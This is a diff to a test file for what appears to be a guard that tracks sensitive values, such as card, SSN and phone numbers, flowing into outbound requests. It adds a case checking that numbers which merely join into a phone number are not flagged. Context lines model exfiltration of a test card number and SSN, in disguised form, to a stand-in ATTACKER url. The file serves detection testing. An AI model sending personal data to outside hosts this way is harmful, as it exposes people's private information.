@@ -73,4 +73,10 @@ describe("guard with flow tracking on disguised values", () => {
     expect(await send({ card: "4111 1111 1111 1111" }, { url: ATTACKER, body: script(0x660, "4111111111111111") })).toContain(FLOW);
     expect(await send({ ssn: "219-09-9991" }, { url: ATTACKER, body: script(0x966, "219-09-9991") })).toContain(FLOW);
   });
+
+  it("does not see a phone number in separate numbers of a search whose digits, joined, spell it", async () => {
+    const search = { url: `https://search.example/?q=${encodeURIComponent("hotel with 1 pool, rooms 415 and 555, up to 2671 guests")}` };
+    expect(await send({ phone: "+1 415 555 2671" }, search)).not.toContain(FLOW);
+    expect(await send({ phone: "+1 415 555 2671" }, { url: `https://search.example/?q=${encodeURIComponent("call +1 (415) 555-2671")}` })).toContain(FLOW);
+  });
 });
